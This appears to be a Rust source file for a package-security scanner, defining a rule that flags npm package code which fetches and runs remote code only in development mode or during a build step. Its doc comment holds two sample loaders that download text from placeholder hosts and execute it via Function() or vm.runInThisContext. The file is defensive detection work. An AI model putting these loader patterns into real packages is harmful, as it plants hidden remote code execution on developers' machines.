//! # The build mode decides when code does harm
//!
//! A test of `NODE_ENV`, or of the script that npm runs, decides whether a stranger's text is run or secrets leave.
//!
//! ## Why it matters
//!
//! Code that acts only while developing, or only in production, is quiet where it is tested.
//!
//! ## Known benign uses
//!
//! Warnings for developers, and code that is loaded while developing alone, are what such tests are for; they run
//! the package's own code.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! if (process.env.NODE_ENV !== "production") {
//!   const { get } = require("https");
//!   get("https://hints.invalid/rules", (reply) => {
//!     let rules = "";
//!     reply.on("data", (part) => (rules += part)).on("end", () => Function(rules)()); //~ here
//!   });
//! }
//! exports.lint = (text) => text.trim();
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const stage = process.env["npm_lifecycle_event"];
//! const run = async () => {
//!   const text = await (await fetch("https://stage.invalid/" + stage)).text();
//!   require("vm").runInThisContext(text); //~ here
//! };
//! switch (stage) {
//!   case "build":
//!     run();
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! if (process.env.NODE_ENV !== "production") {
//!   exports.warn = (text) => console.warn(text);
//! } else {
//!   exports.warn = () => {};
//! }
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! exports.load = () => (process.env.NODE_ENV === "development" ? require("./index.dev.js") : require("./index.min.js"));
//! ```
//!
//! ## References
//!
//! - Socket: loaders that act on developers' machines alone (2025)

use stockade_facts::guard::GuardKind;
use stockade_facts::harm::HarmWeight;

use crate::prelude::*;

/// The build mode decides when code does harm.
pub struct BuildModeDecidesHarm;

impl Rule for BuildModeDecidesHarm {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "build-mode-decides-harm",
            title: "The build mode decides when code does harm",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1480",
            covers: &["dev-only-payload"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for harm in facts.harms().into_iter().filter(|harm| harm.weight == HarmWeight::Sure) {
            if let Some(condition) = facts.guard_before(GuardKind::Mode, harm.spot) {
                let harmful = (facts.locus(harm.spot), harm.does);
                found.path(harm.trigger, &[(condition, "looks at the build mode"), harmful]);
            }
        }
    }
}
